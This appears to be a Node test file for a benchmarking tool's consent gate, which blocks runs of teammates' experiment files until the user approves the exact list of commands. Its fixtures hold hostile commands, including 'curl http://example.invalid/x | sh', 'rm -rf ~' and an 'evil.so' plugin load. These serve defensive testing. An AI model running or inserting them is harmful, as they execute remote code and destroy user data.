// Teammates' files: what a file would run beyond the built-in tunables is listed, asked once per
// list of commands and target, and a run refuses to start before the user agreed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { commandsNeedingConsent } from '../../src/common/trust.js';
import type { ExperimentDoc } from '../../src/common/experiment/types.js';
import { createBackend } from '../../src/node/backend.js';
import { headerRecord } from '../../src/node/engine/journal.js';

let home: string;
const quickstart = () => JSON.parse(readFileSync('examples/quickstart.varlab.json', 'utf8')) as ExperimentDoc;

function teammatesFile(): ExperimentDoc {
  const doc = quickstart();
  doc.name = "Ana's sysbench run";
  doc.design.workload.kind = 'command';
  doc.design.workload.command = { line: 'sysbench oltp_read_only --mysql-socket={socket} run; curl http://example.invalid/x | sh', parser: 'sysbench', metric: 'tps', unit: 'tps', higherIsBetter: true };
  doc.design.serverProfile = { target: 'local', kind: 'direct', mysqld: '/opt/wrap/start-mysqld.sh', datadir: '/var/lib/mysql', socket: '/run/mysqld/mysqld.sock', port: 3307, user: 'root', extraArgs: ['--init-file=/tmp/init.sql'], sudo: false };
  return doc;
}

before(() => {
  home = mkdtempSync(join(tmpdir(), 'varlab-trust-'));
  // varlab's own state in a folder of its own: the API never reads or writes files there.
  process.env.VARLAB_HOME = join(home, 'varlab');
});
after(() => rmSync(home, { recursive: true, force: true }));

test('everything beyond the built-in tunables is listed with where it is in the file', () => {
  const items = commandsNeedingConsent(teammatesFile());
  assert.deepEqual(
    items.map((i) => [i.kind, i.where]),
    [
      ['command', 'design.workload.command.line'],
      ['setup-sql', 'design.workload.setupSql'],
      ['server-profile', 'design.serverProfile'],
    ],
  );
  assert.match(items[0].command, /curl http:\/\/example\.invalid\/x \| sh/);
  // The whole profile: its program (a start wrapper), the user it runs as, its paths and its options.
  assert.match(items[2].summary, /custom start wrapper/);
  for (const part of ['mysqld: /opt/wrap/start-mysqld.sh', 'datadir: /var/lib/mysql', 'port: 3307', 'client account (setup script, admin): root', '--init-file=/tmp/init.sql']) assert.ok(items[2].command.includes(part), part);
  const systemd = teammatesFile();
  systemd.design.serverProfile = { ...systemd.design.serverProfile!, kind: 'systemd', service: 'mariadb@bench', mysqld: '/usr/sbin/mariadbd', extraArgs: [] };
  assert.match(commandsNeedingConsent(systemd).at(-1)!.command, /systemctl restart mariadb@bench/);
});

test('asked once per list of commands and host: granted for one target, asked again for another or after a change', async () => {
  const backend = createBackend({ transport: 'websocket' });
  const file = join(home, 'teammate.varlab.json');
  writeFileSync(file, JSON.stringify(teammatesFile()));
  try {
    let r = await backend.call('trust.check', { path: file });
    assert.ok(r.ok);
    assert.equal(r.value.needsConsent, true);
    assert.equal(r.value.target, 'local');
    // The quickstart's own setup script is varlab's: only the command and the profile are asked about.
    assert.deepEqual(r.value.commands.map((c) => c.kind), ['command', 'server-profile']);

    // A run refuses to start, naming what it would run.
    const run = await backend.call('run.start', { path: file });
    assert.ok(!run.ok);
    assert.equal(run.code, 'needs-consent');
    assert.match(run.message, /curl http:\/\/example\.invalid/);
    assert.match(run.message, /start-mysqld\.sh/);

    assert.ok((await backend.call('trust.grant', { path: file, digest: r.value.digest })).ok);
    r = await backend.call('trust.check', { path: file });
    assert.ok(r.ok && !r.value.needsConsent, 'granted for local');

    r = await backend.call('trust.check', { path: file, target: 'ssh://bench02' });
    assert.ok(r.ok && r.value.needsConsent, 'a new host asks again');

    const more = teammatesFile();
    more.design.restartsPerCell = 20;
    writeFileSync(file, JSON.stringify(more));
    r = await backend.call('trust.check', { path: file });
    assert.ok(r.ok && !r.value.needsConsent, 'more restarts of the same commands do not ask again');

    const changed = teammatesFile();
    changed.design.serverProfile!.extraArgs.push('--plugin-load=evil.so');
    writeFileSync(file, JSON.stringify(changed));
    r = await backend.call('trust.check', { path: file });
    assert.ok(r.ok && r.value.needsConsent, 'a changed command asks again');
  } finally {
    await backend.dispose();
  }
});

test('consent is to the list shown: Allow after the file changed (a sync, a git pull) grants nothing and answers the new list', async () => {
  const backend = createBackend({ transport: 'websocket' });
  const file = join(home, 'pulled.varlab.json');
  // A list of its own (the test above granted the teammate's).
  const first = teammatesFile();
  first.design.workload.command!.line = 'sysbench oltp_point_select run';
  writeFileSync(file, JSON.stringify(first));
  try {
    const shown = await backend.call('trust.check', { path: file });
    assert.ok(shown.ok && shown.value.needsConsent, JSON.stringify(shown));
    // Between reading the list and Allow, the file changes under the app.
    const pulled = teammatesFile();
    pulled.design.workload.command!.line = 'sysbench oltp_read_only run; rm -rf ~';
    writeFileSync(file, JSON.stringify(pulled));
    const allow = await backend.call('trust.grant', { path: file, digest: shown.value.digest });
    assert.ok(!allow.ok);
    assert.equal(allow.code, 'needs-consent');
    assert.match(allow.message, /^what this experiment would run on local changed since it was shown; nothing was allowed\. Read the list again:\n.*rm -rf ~/s);
    assert.match(allow.details?.consent?.commands[0].command ?? '', /rm -rf ~/);
    let now = await backend.call('trust.check', { path: file });
    assert.ok(now.ok && now.value.needsConsent, 'nothing was granted');
    // A grant with no digest is refused: consent is always to a list that was shown.
    const blind = await backend.call('trust.grant', { path: file } as never);
    assert.ok(!blind.ok && blind.code === 'invalid-argument');
    // Allow on the new list, once read: granted.
    assert.ok((await backend.call('trust.grant', { path: file, digest: allow.details!.consent!.digest })).ok);
    now = await backend.call('trust.check', { path: file });
    assert.ok(now.ok && !now.value.needsConsent);
  } finally {
    await backend.dispose();
  }
});

test('the examples shipped with varlab need no consent, and neither does a file with only built-in tunables', async () => {
  const backend = createBackend({ transport: 'websocket' });
  try {
    const doc = quickstart();
    doc.design.restartsPerCell = 3;
    let r = await backend.call('trust.check', { doc });
    // Its setup script and queries are varlab's own: nothing to agree to.
    assert.ok(r.ok && !r.value.needsConsent);
    assert.deepEqual(r.value.commands, []);
    doc.design.workload.setupSql = '';
    assert.deepEqual([...new Set(commandsNeedingConsent(doc).map((c) => c.kind))], ['query']);
    doc.design.workload.setupSql = 'CREATE TABLE t (a INT); INSERT INTO t VALUES (1);';
    r = await backend.call('trust.check', { doc });
    assert.ok(r.ok && r.value.needsConsent, 'a setup script of its own is asked about');
  } finally {
    await backend.dispose();
  }
});

test("a run asked about a journal's design: run.start names it in full with the list in its details; agreeing through trust.grant with the same request lets it start", async () => {
  const backend = createBackend({ transport: 'websocket' });
  const target = 'ssh://root@127.0.0.1:1';
  const profile = { kind: 'direct', mysqld: '/usr/sbin/mariadbd', datadir: '/var/tmp/varlab-sandbox-00000000/data', socket: '/var/tmp/varlab-sandbox-00000000/s.sock', port: 23456, user: 'root', extraArgs: [], sudo: false };
  mkdirSync(process.env.VARLAB_HOME!, { recursive: true });
  writeFileSync(join(process.env.VARLAB_HOME!, 'profiles.json'), JSON.stringify({ [target]: profile }));
  const file = join(home, 'harmless.varlab.json');
  const doc = quickstart();
  doc.design.target = target;
  writeFileSync(file, JSON.stringify(doc));
  const swapped = structuredClone(doc);
  swapped.design.workload.queries.push({ name: 'Q99', sql: "SELECT * FROM lineitem INTO OUTFILE '/tmp/varlab-never'" });
  writeFileSync(file.replace(/\.json$/, '.journal.jsonl'), JSON.stringify(headerRecord(swapped.design)) + '\n');
  try {
    // The file alone asks nothing (it is the quickstart); a run resuming the journal's design does.
    assert.ok((await backend.call('trust.check', { doc })).ok);
    let check = await backend.call('trust.check', { path: file });
    assert.ok(check.ok && !check.value.needsConsent);
    const run = await backend.call('run.start', { path: file, resume: true });
    assert.ok(!run.ok);
    assert.equal(run.code, 'needs-consent');
    assert.match(run.message, /the design of the unfinished run in .*harmless\.varlab\.journal\.jsonl, which differs from the file's/);
    assert.deepEqual(run.details?.consent?.commands.map((c) => c.command), ["SELECT * FROM lineitem INTO OUTFILE '/tmp/varlab-never'"]);
    check = await backend.call('trust.check', { path: file, resume: true });
    assert.ok(check.ok && check.value.needsConsent && check.value.digest === run.details?.consent?.digest, 'trust.check with the same request sees the same list');
    assert.ok((await backend.call('trust.grant', { path: file, resume: true, digest: check.value.digest })).ok);
    const again = await backend.call('run.start', { path: file, resume: true });
    assert.ok(again.ok, again.ok ? '' : again.message);
  } finally {
    await backend.dispose();
  }
});
